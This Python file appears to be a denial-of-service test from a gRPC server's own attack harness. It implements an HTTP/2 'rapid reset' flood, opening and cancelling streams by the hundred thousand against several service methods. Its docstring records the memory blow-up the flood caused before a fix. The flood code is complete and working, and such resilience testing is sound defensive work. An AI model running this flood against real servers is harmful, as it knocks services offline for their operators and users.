"""Opens streams and resets them at once, by the hundred thousand: each costs the client 9 + 13 bytes once its headers
are in the table, and the server a call.

Before: 146,000 in 2 s on Session took 3.1 GiB; a reset stream is no concurrent one, so --max-concurrent-streams
bounds nothing.
"""

import struct

import hpack
import http2
from attack import Attack, Target, one_after_the_other, run


def flood(method: str):
    def attack(target: Target) -> None:
        connection = target.connect()
        # The last of six is index 62.
        headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", http2.path_of(method)),
            (":authority", "x"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        connection.send(
            http2.frame(
                http2.HEADERS,
                http2.END_HEADERS,
                connection.next_stream(),
                b"".join(hpack.kept(*header) for header in headers),
            )
        )
        block = b"".join(hpack.indexed(62 + i) for i in reversed(range(6)))
        cancel = struct.pack(">I", http2.CANCEL)
        for _ in range(500_000):
            out = bytearray()
            for _ in range(200):
                stream = connection.next_stream()
                out += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                out += http2.frame(http2.RST_STREAM, 0, stream, cancel)
            connection.send(bytes(out))
            connection.calls.clear()

    return attack


if __name__ == "__main__":
    run(
        Attack(
            [
                one_after_the_other(
                    flood(http2.SESSION),
                    flood("Execute"),
                    flood("ExecuteBatch"),
                    flood("NoSuchMethod"),
                    flood(http2.HEALTH_WATCH),
                    flood(http2.REFLECTION),
                )
            ],
            spares=["backlog"],
        )
    )
